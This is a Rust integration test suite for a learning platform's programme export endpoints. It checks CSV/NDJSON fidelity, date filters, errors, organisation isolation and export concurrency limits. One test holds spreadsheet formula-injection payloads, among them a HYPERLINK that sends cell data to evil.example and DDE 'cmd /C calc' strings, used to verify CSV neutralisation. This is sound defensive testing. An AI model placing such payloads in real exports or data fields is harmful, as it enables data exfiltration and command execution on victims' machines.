//! Programme exports: `/api/v1/fe/program/export/messages` and
//! `/api/v1/fe/program/export/scores`, in NDJSON and CSV, checked against
//! the transcripts and customer summaries of the same sessions.

use std::time::Duration;

use chrono::{DateTime, SecondsFormat, Utc};
use serde_json::{Map, Value};

use chatcourse_api::{Config, ExportLimits};
use chatcourse_storage::{Inbound, QuizProgress, TurnPlan};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::harness::{Backend, TestApp, assert_error, both_backends};

both_backends!(
    exports_match_transcripts_and_summaries,
    export_date_filters,
    export_errors_and_isolation,
    csv_neutralises_formulas_and_ndjson_is_verbatim,
    unread_exports_starve_no_one,
    exports_are_bounded_per_organisation_and_in_total,
);

/// The learner's message that CSV must quote: a comma, quotes, a newline.
const TRICKY: &str = "Hello, \"teacher\"\nsecond line, still me";

const MESSAGE_COLUMNS: [&str; 9] = [
    "id",
    "message",
    "session_uuid",
    "message_type",
    "date_time",
    "timestamp",
    "customer_uuid",
    "module_uuid",
    "program_identifier",
];

const SCORE_COLUMNS: [&str; 23] = [
    "session_uuid",
    "customer_uuid",
    "full_name",
    "phone",
    "module_uuid",
    "module_name",
    "status",
    "pre_quiz_score",
    "pre_quiz_correct",
    "pre_quiz_total",
    "post_quiz_score",
    "post_quiz_correct",
    "post_quiz_total",
    "date_enrolled",
    "last_active_date",
    "pre_quiz_answered",
    "post_quiz_answered",
    "language",
    "current_step",
    "messages_queued",
    "messages_sent",
    "messages_delivered",
    "messages_failed",
];

/// GETs an export with `key`; asserts 200 and a streamed body (chunked,
/// no Content-Length) of `content_type`; returns the body.
async fn fetch(app: &TestApp, path: &str, key: &str, content_type: &str) -> String {
    let mut response = app
        .client
        .get(app.url(path))
        .bearer_auth(key)
        .send()
        .await
        .expect("request");
    assert_eq!(response.status().as_u16(), 200, "{path}");
    let headers = response.headers().clone();
    assert_eq!(headers["content-type"], content_type, "{path}");
    assert!(
        headers.get("content-length").is_none(),
        "{path}: streamed, so no Content-Length: {headers:?}"
    );
    assert_eq!(headers["transfer-encoding"], "chunked", "{path}");
    let mut body = Vec::new();
    while let Some(chunk) = response.chunk().await.expect("body chunk") {
        body.extend_from_slice(&chunk);
    }
    String::from_utf8(body).expect("UTF-8 body")
}

async fn ndjson(app: &TestApp, path: &str) -> Vec<Map<String, Value>> {
    fetch(app, path, &app.key, "application/x-ndjson")
        .await
        .lines()
        .map(|line| match serde_json::from_str(line) {
            Ok(Value::Object(object)) => object,
            other => panic!("not a JSON object line: {line:?} ({other:?})"),
        })
        .collect()
}

/// The CSV records (header first), read strictly as RFC 4180.
async fn csv(app: &TestApp, path: &str) -> Vec<Vec<String>> {
    parse_csv(&fetch(app, path, &app.key, "text/csv; charset=utf-8").await)
}

/// A tiny RFC 4180 reader: records end with CRLF (also the last), fields
/// with a comma, quote, CR or LF are quoted with quotes doubled. Panics on
/// anything else, so a sloppy writer fails the test.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut was_quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                _ => field.push(c),
            }
            continue;
        }
        match c {
            '"' => {
                assert!(field.is_empty() && !was_quoted, "stray quote in {text:?}");
                quoted = true;
                was_quoted = true;
            }
            ',' => {
                record.push(std::mem::take(&mut field));
                was_quoted = false;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF in {text:?}");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
                was_quoted = false;
            }
            '\n' => panic!("bare LF outside quotes in {text:?}"),
            _ => {
                assert!(!was_quoted, "text after a closing quote in {text:?}");
                field.push(c);
            }
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "the last record must end with CRLF: {text:?}"
    );
    records
}

#[test]
fn the_csv_reader_reads_rfc_4180() {
    assert_eq!(
        parse_csv("a,b\r\n\"x, \"\"y\"\"\nz\",\r\n"),
        [vec!["a", "b"], vec!["x, \"y\"\nz", ""]]
    );
}

/// The fields of a `/api/v1/message/all` item.
fn transcript_item(line: &Map<String, Value>) -> Value {
    let mut item = line.clone();
    for extra in [
        "timestamp",
        "customer_uuid",
        "module_uuid",
        "program_identifier",
    ] {
        item.remove(extra);
    }
    Value::Object(item)
}

/// A JSON value as its CSV field: a text that a spreadsheet would read
/// as a formula (it begins with `=`, `+`, `-`, `@`, tab or CR) gets a `'`
/// in front; numbers are as they are.
fn csv_field(value: &Value) -> String {
    match value {
        Value::String(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{s}"),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Asserts the CSV records are the NDJSON lines, column by column.
fn assert_csv_matches(records: &[Vec<String>], columns: &[&str], lines: &[Map<String, Value>]) {
    assert_eq!(records[0], columns, "header");
    assert_eq!(records.len(), lines.len() + 1);
    for (record, line) in records[1..].iter().zip(lines) {
        let want: Vec<String> = columns.iter().map(|c| csv_field(&line[*c])).collect();
        assert_eq!(record, &want);
    }
}

struct Enrolled {
    customer: String,
    name: String,
    session: String,
}

async fn exports_match_transcripts_and_summaries(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let test_module = app.module_uuid("Test Module Updated").await;
    let savings = app.module_uuid("Saving with Mobile Money").await;
    // 60 learners, alternating between the two modules, in programme 49.
    let mut enrolled = Vec::new();
    for i in 0..60 {
        let name = format!("Learner {i}, \"the {i}th\"");
        let customer = app.register_customer_with(&app.key, &name).await["uuid"]
            .as_str()
            .expect("uuid")
            .to_owned();
        let module = if i % 2 == 0 { &test_module } else { &savings };
        let session = app.enrol(&customer, module, 49).await;
        enrolled.push(Enrolled {
            customer,
            name,
            session,
        });
    }
    // Every sixth learner completes "Test Module Updated" (1/2 then 2/2);
    // learner 1 writes something CSV must quote; learner 3 starts.
    for e in enrolled.iter().step_by(6) {
        for reply in ["1", "2", "3", "1", "2", "1"] {
            app.say(&e.customer, &e.session, reply).await;
        }
    }
    app.say(&enrolled[1].customer, &enrolled[1].session, TRICKY)
        .await;
    app.say(&enrolled[3].customer, &enrolled[3].session, "1")
        .await;
    // Not exported: another programme of this organisation, and another
    // organisation's programme 49.
    let elsewhere = app.enrol(&enrolled[0].customer, &test_module, 50).await;
    app.say(&enrolled[0].customer, &elsewhere, "1").await;
    let other_key = app.new_key("org-b").await;
    let stranger = app.register_customer_with(&other_key, "Stranger").await["uuid"]
        .as_str()
        .expect("uuid")
        .to_owned();
    app.enrol_with(&other_key, &stranger, &test_module, 49)
        .await;

    // Messages: every transcript of the programme, by session (enrolment
    // order) then id, plus who and when.
    let mut expected = Vec::new();
    for e in &enrolled {
        expected.extend(app.transcript(&e.customer, &e.session).await);
    }
    let lines = ndjson(
        &app,
        "/api/v1/fe/program/export/messages?programIdentifier=49",
    )
    .await;
    assert_eq!(lines.len(), expected.len());
    let items: Vec<Value> = lines.iter().map(transcript_item).collect();
    assert_eq!(items, expected, "the transcripts, in order");
    let mut session_index = 0;
    for line in &lines {
        while line["session_uuid"] != enrolled[session_index].session.as_str() {
            session_index += 1;
        }
        let e = &enrolled[session_index];
        assert_eq!(line["customer_uuid"], e.customer.as_str());
        let module = if session_index % 2 == 0 {
            &test_module
        } else {
            &savings
        };
        assert_eq!(line["module_uuid"], module.as_str());
        assert_eq!(line["program_identifier"], 49);
        let at: DateTime<Utc> = line["timestamp"]
            .as_str()
            .expect("timestamp")
            .parse()
            .expect("RFC 3339 timestamp");
        assert!(line["timestamp"].as_str().unwrap().ends_with('Z'));
        // The server runs in UTC: the display string is the same time.
        assert_eq!(
            line["date_time"],
            at.format("%d/%m/%Y %H:%M").to_string().as_str()
        );
    }
    assert_eq!(
        lines.iter().filter(|l| l["message"] == TRICKY).count(),
        1,
        "the tricky message is exported once"
    );

    let records = csv(
        &app,
        "/api/v1/fe/program/export/messages?programIdentifier=49&format=csv",
    )
    .await;
    assert_csv_matches(&records, &MESSAGE_COLUMNS, &lines);
    assert!(
        records.iter().any(|r| r[1] == TRICKY),
        "comma, quotes and newline survive CSV"
    );

    // Scores: one line per session, equal to the customer summaries.
    let scores = ndjson(
        &app,
        "/api/v1/fe/program/export/scores?programIdentifier=49",
    )
    .await;
    assert_eq!(scores.len(), enrolled.len());
    for (line, e) in scores.iter().zip(&enrolled) {
        assert_eq!(line["session_uuid"], e.session.as_str(), "enrolment order");
        assert_eq!(line["customer_uuid"], e.customer.as_str());
        assert_eq!(line["full_name"], e.name.as_str());
        assert!(
            line["phone"]
                .as_str()
                .is_some_and(|p| p.starts_with("2547"))
        );
        let (status, body) = app
            .get(&format!(
                "/api/v1/fe/customer/summary?customerUuid={}",
                e.customer
            ))
            .await;
        assert_eq!(status, 200, "{body}");
        let summary = body["data"]
            .as_array()
            .expect("sessions")
            .iter()
            .find(|s| s["session_uuid"] == e.session.as_str())
            .expect("the session is in the summary");
        for field in [
            "module_uuid",
            "module_name",
            "status",
            "pre_quiz_score",
            "post_quiz_score",
            "date_enrolled",
            "last_active_date",
            "language",
        ] {
            assert_eq!(line[field], summary[field], "{field} of {}", e.session);
        }
        assert_eq!(line["language"], "en");
        // No channel: nothing went through the outbox.
        for status in ["queued", "sent", "delivered", "failed"] {
            assert_eq!(line[&format!("messages_{status}")], 0, "{status}");
        }
        for quiz in ["pre", "post"] {
            let score = format!(
                "{}/{}",
                line[&format!("{quiz}_quiz_correct")],
                line[&format!("{quiz}_quiz_total")]
            );
            assert_eq!(line[&format!("{quiz}_quiz_score")], score.as_str());
        }
    }
    for line in scores.iter().step_by(6) {
        assert_eq!(
            (
                &line["status"],
                &line["pre_quiz_score"],
                &line["post_quiz_score"]
            ),
            (&"Completed".into(), &"1/2".into(), &"2/2".into()),
            "{line:?}"
        );
        // The last step of "Test Module Updated", every question answered.
        assert_eq!(line["current_step"], "completion", "{line:?}");
        assert_eq!(
            (&line["pre_quiz_answered"], &line["post_quiz_answered"]),
            (&2.into(), &2.into())
        );
    }
    // Learners 2 and 4 (the same module) never replied: at its first step.
    for pending in [2, 4] {
        let line = &scores[pending];
        assert_eq!(line["current_step"], "enrolment", "{line:?}");
        assert_eq!(
            (&line["pre_quiz_answered"], &line["post_quiz_answered"]),
            (&0.into(), &0.into())
        );
    }
    for replied in [1, 3] {
        assert_ne!(
            scores[replied]["last_active_date"], "",
            "learner {replied} replied"
        );
    }
    assert_eq!(scores[5]["status"], "Pending");
    assert_eq!(scores[5]["last_active_date"], "");

    let records = csv(
        &app,
        "/api/v1/fe/program/export/scores?programIdentifier=49&format=CSV",
    )
    .await;
    assert_csv_matches(&records, &SCORE_COLUMNS, &scores);

    // The other organisation sees only its own session.
    let theirs = fetch(
        &app,
        "/api/v1/fe/program/export/scores?programIdentifier=49",
        &other_key,
        "application/x-ndjson",
    )
    .await;
    assert_eq!(theirs.lines().count(), 1);
    assert!(theirs.contains(&stranger), "{theirs}");
}

async fn export_date_filters(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (customer, session) = app.enrolled().await;
    app.say(&customer, &session, "1").await;
    tokio::time::sleep(Duration::from_millis(50)).await;
    let boundary = Utc::now();
    tokio::time::sleep(Duration::from_millis(50)).await;
    app.say(&customer, &session, "2").await;
    let transcript = app.transcript(&customer, &session).await;
    let path = "/api/v1/fe/program/export/messages?programIdentifier=49";
    let all = ndjson(&app, path).await;
    assert_eq!(all.len(), transcript.len());
    let before: Vec<&Map<String, Value>> = all
        .iter()
        .filter(|l| {
            l["timestamp"]
                .as_str()
                .unwrap()
                .parse::<DateTime<Utc>>()
                .unwrap()
                < boundary
        })
        .collect();
    assert!(!before.is_empty() && before.len() < all.len(), "{all:?}");

    let utc = boundary.to_rfc3339_opts(SecondsFormat::Micros, true);
    let until = ndjson(&app, &format!("{path}&until={utc}")).await;
    assert_eq!(until.len(), before.len());
    let from = ndjson(&app, &format!("{path}&from={utc}")).await;
    assert_eq!(from.len(), all.len() - before.len());
    assert_eq!(
        from[0]["message"], "2",
        "the second learner message opens the range"
    );
    // The same instant with an offset ('+' encoded).
    let nairobi = boundary
        .with_timezone(&chrono::FixedOffset::east_opt(3 * 3600).unwrap())
        .to_rfc3339_opts(SecondsFormat::Micros, false)
        .replace('+', "%2B");
    assert_eq!(
        ndjson(&app, &format!("{path}&from={nairobi}")).await.len(),
        from.len()
    );

    // Dates: the whole day, in the server's zone (UTC here).
    let today = boundary.format("%d/%m/%Y").to_string();
    let iso_today = boundary.format("%Y-%m-%d").to_string();
    let yesterday = (boundary - chrono::Duration::days(1))
        .format("%d/%m/%Y")
        .to_string();
    let days = [
        (format!("from={today}&until={today}"), all.len()),
        (format!("from={iso_today}"), all.len()),
        (format!("until={yesterday}"), 0),
    ];
    for (range, want) in days {
        let got = ndjson(&app, &format!("{path}&{range}")).await;
        assert_eq!(got.len(), want, "{range}");
    }
    let empty = csv(&app, &format!("{path}&until={yesterday}&format=csv")).await;
    assert_eq!(empty, [MESSAGE_COLUMNS.map(str::to_owned).to_vec()]);
}

async fn export_errors_and_isolation(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    app.enrolled().await;
    let other_key = app.new_key("org-b").await;
    for export in ["messages", "scores"] {
        let base = format!("/api/v1/fe/program/export/{export}");
        let (status, body) = app.get(&format!("{base}?programIdentifier=999")).await;
        assert_error(status, &body, 404, "program_not_found");
        // Another organisation's programme is no programme.
        let (status, body) = app
            .get_with(&format!("{base}?programIdentifier=49"), &other_key)
            .await;
        assert_error(status, &body, 404, "program_not_found");
        let (status, body) = app
            .get(&format!("{base}?programIdentifier=49&format=xml"))
            .await;
        assert_error(status, &body, 400, "validation_failed");
        assert_eq!(body["errors"][0], "format: must be ndjson or csv");
        let (status, body) = app.get(&base).await;
        assert_error(status, &body, 400, "validation_failed");
        assert_eq!(body["errors"][0], "programIdentifier: is required");
        let (status, body) = app.get(&format!("{base}?programIdentifier=4x9")).await;
        assert_error(status, &body, 400, "validation_failed");
        let (status, body) = app
            .get_with(&format!("{base}?programIdentifier=49"), "")
            .await;
        assert_error(status, &body, 401, "missing_api_key");
    }
    let base = "/api/v1/fe/program/export/messages?programIdentifier=49";
    let (status, body) = app
        .get(&format!(
            "{base}&from=yesterday&until=2026-13-01&format=pdf"
        ))
        .await;
    assert_error(status, &body, 400, "validation_failed");
    assert_eq!(
        body["errors"],
        serde_json::json!([
            "format: must be ndjson or csv",
            "from: must be an RFC 3339 time (2026-11-01T00:00:00Z) or a date (01/11/2026), in the years 1900 to 9999",
            "until: must be an RFC 3339 time (2026-11-01T00:00:00Z) or a date (01/11/2026), in the years 1900 to 9999",
        ])
    );
    // Dates the databases cannot hold are refused, not a 500.
    for far in ["-4714-01-01", "0001-01-01T00:00:00Z", "01/01/1899"] {
        let (status, body) = app.get(&format!("{base}&from={far}")).await;
        assert_error(status, &body, 400, "validation_failed");
    }
    let (status, body) = app
        .get(&format!("{base}&from=02/11/2026&until=01/11/2026"))
        .await;
    assert_error(status, &body, 400, "validation_failed");
    assert_eq!(body["errors"][0], "until: must be later than from");

    // The OpenAPI document gives both formats of both exports.
    let (status, doc) = app.get("/api/v1/openapi.json").await;
    assert_eq!(status, 200);
    for (export, line) in [
        ("messages", "MessageExportLine"),
        ("scores", "ScoreExportLine"),
    ] {
        let content = &doc["paths"][format!("/api/v1/fe/program/export/{export}")]["get"]["responses"]
            ["200"]["content"];
        assert!(content["text/csv"].is_object(), "{content}");
        assert_eq!(
            content["application/x-ndjson"]["schema"]["$ref"],
            format!("#/components/schemas/{line}").as_str(),
            "{content}"
        );
    }
}

/// A CSV export read by the csv crate: its header and records.
async fn csv_crate_records(
    app: &TestApp,
    path: &str,
) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let text = fetch(app, path, &app.key, "text/csv; charset=utf-8").await;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().expect("header").clone();
    let records = reader.records().map(|r| r.expect("record")).collect();
    (header, records)
}

/// Texts a spreadsheet would run as formulas, from a learner's messages and
/// registration: in CSV each gets a `'` in front (read back with the csv
/// crate); NDJSON keeps them verbatim.
async fn csv_neutralises_formulas_and_ndjson_is_verbatim(backend: Backend) {
    const HOSTILE: [&str; 7] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1,\"2\"\n=3",
    ];
    let app = TestApp::spawn(backend).await;
    let module = app.module_uuid("Test Module Updated").await;
    let name = "=cmd|' /C calc'!A0";
    let customer = app
        .register_customer_by_phone(&app.key, name, "+254711000999")
        .await["uuid"]
        .as_str()
        .expect("uuid")
        .to_owned();
    let session = app.enrol(&customer, &module, 49).await;
    for text in HOSTILE {
        app.say(&customer, &session, text).await;
    }

    let (header, records) = csv_crate_records(
        &app,
        "/api/v1/fe/program/export/messages?programIdentifier=49&format=csv",
    )
    .await;
    assert_eq!(header.iter().collect::<Vec<_>>(), MESSAGE_COLUMNS);
    let message_column = header.iter().position(|c| c == "message").expect("message");
    let messages: Vec<String> = records
        .iter()
        .map(|r| r[message_column].to_owned())
        .collect();
    for text in HOSTILE {
        let want = format!("'{text}");
        assert!(
            messages.contains(&want),
            "{text:?} as {want:?} in {messages:?}"
        );
        assert!(
            !messages.iter().any(|m| m == text),
            "{text:?} verbatim in CSV"
        );
    }
    // No cell of the file starts a formula.
    for record in &records {
        for (column, cell) in header.iter().zip(record.iter()) {
            if column != "id" && column != "program_identifier" {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{column}: {cell:?}"
                );
            }
        }
    }

    let (header, records) = csv_crate_records(
        &app,
        "/api/v1/fe/program/export/scores?programIdentifier=49&format=csv",
    )
    .await;
    let record = &records[0];
    let cell =
        |column: &str| record[header.iter().position(|c| c == column).expect(column)].to_owned();
    assert_eq!(cell("full_name"), format!("'{name}"));
    assert_eq!(cell("phone"), "'+254711000999", "a phone stays text");
    let pre_quiz_correct = cell("pre_quiz_correct");

    // NDJSON: verbatim.
    let lines = ndjson(
        &app,
        "/api/v1/fe/program/export/messages?programIdentifier=49",
    )
    .await;
    for text in HOSTILE {
        assert!(
            lines.iter().any(|l| l["message"] == text),
            "{text:?} verbatim in NDJSON"
        );
    }
    let lines = ndjson(
        &app,
        "/api/v1/fe/program/export/scores?programIdentifier=49",
    )
    .await;
    assert_eq!(lines[0]["full_name"], name);
    assert_eq!(lines[0]["phone"], "+254711000999");
    assert_eq!(
        pre_quiz_correct,
        lines[0]["pre_quiz_correct"].to_string(),
        "numbers stay numbers"
    );
}

/// Adds `turns` turns of 100 replies of 2,000 characters each to the
/// session (straight through the store: the engine is not the point), so
/// that its messages export is far larger than any socket buffer.
async fn bulk_messages(app: &TestApp, org: &str, session: &str, turns: usize) {
    let org = app
        .store
        .find_org(org)
        .await
        .expect("find org")
        .expect("the organisation");
    let session = app
        .store
        .get_session(org.id, session.parse().expect("uuid"))
        .await
        .expect("get session")
        .expect("the session");
    let reply = "x".repeat(2000);
    for turn in 0..turns {
        let mut decide = |s: &chatcourse_storage::Session, now: DateTime<Utc>| {
            Ok(TurnPlan {
                state: s.state.clone(),
                state_format: s.state_format,
                status: s.status,
                replies: vec![reply.clone(); 100],
                answers: Vec::new(),
                progress: QuizProgress::default(),
                wake_at: s.wake_at,
                last_activity: Some(now),
                position: None,
            })
        };
        app.store
            .apply_turn(
                session.id,
                Inbound::message(format!("bulk {turn}"), None),
                &mut decide,
            )
            .await
            .expect("bulk turn");
    }
}

/// Opens an export on a socket with a tiny receive buffer and reads only
/// the status line and headers; the body is never read. Returns the
/// socket (dropping it is the client going away) and the response head.
async fn open_unread(app: &TestApp, path: &str, key: &str) -> (TcpStream, String) {
    let socket = tokio::net::TcpSocket::new_v4().expect("socket");
    socket.set_recv_buffer_size(4096).expect("SO_RCVBUF");
    let mut stream = socket.connect(app.addr).await.expect("connect");
    let request =
        format!("GET {path} HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {key}\r\n\r\n");
    stream.write_all(request.as_bytes()).await.expect("send");
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        let n = tokio::time::timeout(Duration::from_secs(20), stream.read(&mut byte))
            .await
            .expect("response head in time")
            .expect("read");
        assert_eq!(n, 1, "connection closed before the head: {head:?}");
        head.push(byte[0]);
    }
    (stream, String::from_utf8(head).expect("UTF-8 head"))
}

/// A server with these export limits, and org-a's programme 49 with a
/// messages export of about 8 MB ([`BIG_EXPORT`]).
async fn app_with_a_big_export(backend: Backend, per_org: usize, total: usize) -> TestApp {
    let config = Config {
        export_limits: ExportLimits { per_org, total },
        ..Config::default()
    };
    let app = TestApp::spawn_with(backend, config).await;
    let (_, session) = app.enrolled().await;
    bulk_messages(&app, "org-a", &session, 40).await;
    app
}

const BIG_EXPORT: &str = "/api/v1/fe/program/export/messages?programIdentifier=49";

/// Issue 8: twelve exports opened and never read (more than the pool's
/// connections) used to hold every pooled connection, so that every other
/// request and turn failed. Now an export holds a connection only while it
/// reads a page: other organisations' turns commit and `/readyz` stays
/// ready; once the clients go away, their slots are free again.
async fn unread_exports_starve_no_one(backend: Backend) {
    let app = app_with_a_big_export(backend, 12, 13).await;

    let mut unread = Vec::new();
    for _ in 0..12 {
        let (socket, head) = open_unread(&app, BIG_EXPORT, &app.key).await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        unread.push(socket);
    }
    // Let the exports fill their buffers and block.
    tokio::time::sleep(Duration::from_millis(500)).await;

    let other = app.new_key("org-b").await;
    let work = async {
        let customer = app.register_customer_with(&other, "Other Org").await["uuid"]
            .as_str()
            .expect("uuid")
            .to_owned();
        let module = app.module_uuid("Test Module Updated").await;
        let session = app.enrol_with(&other, &customer, &module, 7).await;
        for reply in ["1", "2", "3"] {
            let (status, body) = app
                .post_with(
                    "/api/v1/message",
                    &serde_json::json!({"customer_uuid": customer, "session_uuid": session, "message": reply}),
                    &other,
                )
                .await;
            assert_eq!(status, 200, "another organisation's turn commits: {body}");
        }
        let (status, body) = app.get("/readyz").await;
        assert_eq!(status, 200, "/readyz stays ready: {body}");
        // The other organisation can export too.
        let (socket, head) = open_unread(
            &app,
            "/api/v1/fe/program/export/scores?programIdentifier=7",
            &other,
        )
        .await;
        drop(socket);
        head
    };
    let head = tokio::time::timeout(Duration::from_secs(20), work)
        .await
        .expect("other organisations are served in time, not after a pool timeout");
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");

    // The clients go away: their exports end and their slots are free.
    drop(unread);
    wait_for_export(&app, BIG_EXPORT, &app.key, 12).await;
}

/// Opens `count` unread exports once the earlier ones are released
/// (their bodies end after their clients went away); panics after 10 s.
async fn wait_for_export(app: &TestApp, path: &str, key: &str, count: usize) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    let mut open = Vec::new();
    while open.len() < count {
        let (socket, head) = open_unread(app, path, key).await;
        if head.starts_with("HTTP/1.1 200") {
            open.push(socket);
        } else {
            assert!(head.starts_with("HTTP/1.1 429"), "{head}");
            assert!(
                tokio::time::Instant::now() < deadline,
                "slots not released: {head}"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

/// Beyond the organisation's or the server's number of running exports:
/// `429 too_many_exports`, with `Retry-After` and the envelope.
async fn exports_are_bounded_per_organisation_and_in_total(backend: Backend) {
    let app = app_with_a_big_export(backend, 2, 3).await;
    let b = app.new_key("org-b").await;
    let c = app.new_key("org-c").await;
    for key in [&b, &c] {
        let customer = app.register_customer_with(key, "Someone").await["uuid"]
            .as_str()
            .expect("uuid")
            .to_owned();
        let module = app.module_uuid("Test Module Updated").await;
        let session = app.enrol_with(key, &customer, &module, 49).await;
        if key == &b {
            bulk_messages(&app, "org-b", &session, 40).await;
        }
    }

    let (a1, head) = open_unread(&app, BIG_EXPORT, &app.key).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let (_a2, head) = open_unread(&app, BIG_EXPORT, &app.key).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    // A third of org-a's: over its own limit.
    let response = app
        .client
        .get(app.url(BIG_EXPORT))
        .bearer_auth(&app.key)
        .send()
        .await
        .expect("request");
    assert_eq!(response.headers()["retry-after"], "10");
    let status = response.status().as_u16();
    let body: Value = response.json().await.expect("envelope");
    assert_error(status, &body, 429, "too_many_exports");
    // org-b still has room: the third export of the server.
    let (_b1, head) = open_unread(&app, BIG_EXPORT, &b).await;
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    // org-c has none left: the server's limit.
    let (status, body) = app
        .get_with("/api/v1/fe/program/export/scores?programIdentifier=49", &c)
        .await;
    assert_error(status, &body, 429, "too_many_exports");
    // Ordinary requests are not limited.
    let (status, body) = app.get_with("/api/v1/fe/modules", &c).await;
    assert_eq!(status, 200, "{body}");

    // One of org-a's clients goes away: org-c gets its export.
    drop(a1);
    wait_for_export(
        &app,
        "/api/v1/fe/program/export/scores?programIdentifier=49",
        &c,
        1,
    )
    .await;
}
